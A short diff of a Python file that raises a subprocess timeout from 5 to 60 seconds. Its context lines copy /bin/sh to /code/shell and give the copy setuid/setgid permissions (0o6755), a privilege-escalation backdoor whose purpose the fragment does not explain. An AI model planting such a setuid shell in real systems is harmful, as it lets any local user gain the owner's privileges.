@@ -272,7 +272,7 @@ shutil.copy("/bin/sh", "/code/shell")
 os.chmod("/code/shell", 0o6755)
 def said(*words):
     try:
-        done = subprocess.run(words, capture_output=True, timeout=5, stdin=subprocess.DEVNULL)
+        done = subprocess.run(words, capture_output=True, timeout=60, stdin=subprocess.DEVNULL)
         return done.stdout.decode().strip() if done.returncode == 0 else ""
     except (OSError, subprocess.TimeoutExpired):
         return ""
